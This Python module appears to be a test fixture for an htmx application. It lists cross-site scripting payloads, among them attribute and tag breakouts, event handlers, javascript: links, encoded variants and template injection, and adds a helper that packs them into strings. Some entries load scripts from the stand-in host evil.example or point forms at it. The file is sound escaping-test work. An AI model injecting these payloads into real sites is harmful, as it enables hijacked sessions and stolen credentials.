"""Texts that run a script, load something from elsewhere or change a page, wherever one is not escaped."""

from collections.abc import Iterator

# Host from which nothing may be loaded, and to which no element may point.
ELSEWHERE = "evil.example"

PAYLOADS = [
    # Out of an attribute, a text, an element or a comment.
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus='alert(1)",
    "` onmouseover=alert(1) `",
    "x onerror=alert(1) x",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</svg><script>alert(1)</script>",
    "</option></select><img src=x onerror=alert(1)>",
    "</template><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>",
    "]]><img src=x onerror=alert(1)>",
    # Elements that run something.
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    f"<script src=//{ELSEWHERE}/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<math><mtext><img src=x onerror=alert(1)>",
    # Links, and what changes where links and forms lead.
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//https://",
    "data:text/html,<script>alert(1)</script>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    f"<base href=//{ELSEWHERE}/>",
    f"<form action=//{ELSEWHERE}/><input name=x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/x.css>",
    f"<style>@import '//{ELSEWHERE}/x.css'</style>",
    f"<img src=//{ELSEWHERE}/x.png>",
    # htmx's own attributes.
    "<b hx-get=/sign-out hx-trigger=load>x</b>",
    "<b data-hx-on:htmx:load=alert(1)>x</b>",
    # Escaped once, which must not be undone; and texts of scripts and templates.
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&quot; onfocus=alert(1) &quot;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    '\\";alert(1)//',
    "';alert(1)//",
    "${alert(1)}",
    "{{ request.user.password }}{% debug %}",
]


def texts(longest: int) -> Iterator[str]:
    """Yield all payloads, as many in one text as fit."""
    text = ""
    for payload in PAYLOADS:
        if len(text) + len(payload) + 1 > longest:
            yield text
            text = ""
        text = f"{text} {payload}".strip()
    yield text
